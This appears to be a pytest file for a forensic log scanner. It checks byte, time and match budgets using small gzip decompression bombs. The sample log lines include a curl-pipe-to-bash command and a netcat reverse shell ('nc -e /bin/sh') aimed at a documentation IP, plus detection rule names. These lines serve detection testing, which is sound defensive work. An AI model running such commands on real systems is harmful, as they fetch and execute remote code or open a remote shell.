"""The scanner's budgets: decompressed bytes and time per file and per case, matches kept per file and per case.
Past a budget a file is stopped, what was found before is kept, and the logs section names it as not examined
(coverage partial: the verdict cannot be clean)."""

from __future__ import annotations

import gzip
import io
import shutil
from pathlib import Path

import pytest

from workbench.analysis import AnalysisContext
from workbench.case import Case
from workbench.collect import collect_evidence
from workbench.evidence import pipeline_log
from workbench.evidence.pipeline_log import LogBudget
from workbench.investigation import Investigation
from workbench.logscan import analyse
from workbench.logscan.engine import Scanner, ScanOptions

SAMPLES = Path(__file__).resolve().parents[2] / "evidence-samples"
MIB = 1 << 20
LINE = b"2026-11-18T22:14:03.512Z curl -sSL http://203.0.113.7/p.sh | bash\n"
RULE = "exec.remote-script-to-shell"


def _bomb(path: Path, mib: int) -> Path:
    """A gzip of ``mib`` MiB of matching lines (a small decompression bomb: a few KiB on disk)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(gzip.compress(LINE * (mib * MIB // len(LINE)), compresslevel=9, mtime=0))
    return path


def _case(root: Path, *bombs: tuple[str, int]) -> Path:
    for name, mib in bombs:
        _bomb(root / "logs" / name, mib)
    (root / "case.yaml").write_text("incident_id: INC-BUDGET-1\n", encoding="utf-8")
    return root


def _analyse(root: Path):
    case = Case.open(root)
    return analyse(AnalysisContext(case=case, evidence=collect_evidence(case)))


def test_gzip_bomb_stops_at_the_file_budget_and_keeps_its_findings(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(pipeline_log, "LOG_BUDGET", LogBudget(file_bytes=2 * MIB))
    root = _case(tmp_path / "case", ("bomb.log.gz", 8))
    assert (root / "logs" / "bomb.log.gz").stat().st_size < 64 * 1024
    result = _analyse(root)
    assert result.unexamined == ["logs/bomb.log.gz: stopped after 2 MiB decompressed (budget)"]
    (finding,) = result.findings
    assert finding.evidence["rule_id"] == RULE and finding.evidence["count"] == 2 * MIB // len(LINE)
    (scan,) = result.data["scans"]
    assert scan.bytes_scanned == 2 * MIB and not scan.complete
    assert any(w.reason == scan.stopped for w in result.warnings)
    assert len(result.data["matches"]) == 1000  # kept in full: the per-rule cap; the count is exact
    assert result.limits and "kept in full" in result.limits[0]


def test_case_budget_is_shared_by_the_files(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(pipeline_log, "LOG_BUDGET", LogBudget(file_bytes=2 * MIB, case_bytes=3 * MIB))
    root = _case(tmp_path / "case", ("a.log.gz", 2), ("b.log.gz", 2), ("c.log.gz", 2))
    result = _analyse(root)
    assert result.unexamined == [
        "logs/b.log.gz: stopped after 1 MiB decompressed (the case's budget of 3 MiB of log text was spent)",
        "logs/c.log.gz: not read: the case's budget of 3 MiB of log text was spent",
    ]
    assert [f.evidence["path"] for f in result.findings] == ["logs/a.log.gz", "logs/b.log.gz"]


def test_logs_within_the_budget_are_examined(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(pipeline_log, "LOG_BUDGET", LogBudget(file_bytes=2 * MIB, case_bytes=3 * MIB))
    result = _analyse(_case(tmp_path / "case", ("a.log.gz", 1), ("b.log.gz", 1)))
    assert result.unexamined == [] and all(s.complete for s in result.data["scans"])


@pytest.mark.parametrize("workers", [1, 2])
def test_time_budget_stops_the_file(tmp_path: Path, workers: int) -> None:
    path = tmp_path / "plain.log"
    path.write_bytes(LINE * 20_000)
    options = ScanOptions(budget=LogBudget(file_seconds=0.0), workers=workers, parallel_min_bytes=1)
    scan = Scanner(options=options).scan_path(path, "logs/plain.log")
    assert not scan.complete and scan.stopped is not None
    assert scan.stopped.startswith("stopped after ") and scan.stopped.endswith("(time budget of 0 s)")
    assert scan.stopped in [w.reason for w in scan.warnings]


def test_case_time_budget(tmp_path: Path) -> None:
    path = tmp_path / "plain.log"
    path.write_bytes(LINE * 100)
    scanner = Scanner(options=ScanOptions(budget=LogBudget(case_seconds=0.0)))
    scan = scanner.scan_path(path, "logs/plain.log")
    assert scan.stopped == "stopped after 0 bytes decompressed (the case's time budget of 0 s)"


def test_kept_matches_are_capped_per_file_and_per_case_and_counts_stay_exact() -> None:
    scanner = Scanner(options=ScanOptions(max_kept_per_file=5, max_kept_per_case=8, context=0))
    data = LINE * 30 + b"nc -e /bin/sh 203.0.113.7 1\n" * 30
    first = scanner.scan_stream(io.BytesIO(data), "a.log")
    second = scanner.scan_stream(io.BytesIO(data), "b.log")
    assert [m.line for m in first.matches] == [1, 2, 3, 4, 5] and len(second.matches) == 3
    for scan in (first, second):
        assert scan.stats[RULE].count == 30 and scan.stats["revshell.netcat-exec"].count == 30
        assert scan.stats["revshell.netcat-exec"].last_line == 60 and scan.stopped is None and scan.complete


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="evidence-samples not generated")
def test_a_budget_reached_forbids_a_clean_verdict(tmp_path: Path, monkeypatch) -> None:
    case = tmp_path / "false-alarm"
    shutil.copytree(SAMPLES / "false-alarm", case)
    assert Investigation.open(case, tmp_path / "out1", write=False).verdict == "clean"
    monkeypatch.setattr(pipeline_log, "LOG_BUDGET", LogBudget(file_bytes=1024))
    inv = Investigation.open(case, tmp_path / "out2", write=False)
    logs = inv.conclusions.coverage["logs"]
    assert logs.status == "partial" and logs.unexamined[0].startswith("logs/pipeline.log: stopped after 1024 bytes")
    assert inv.verdict == "inconclusive"
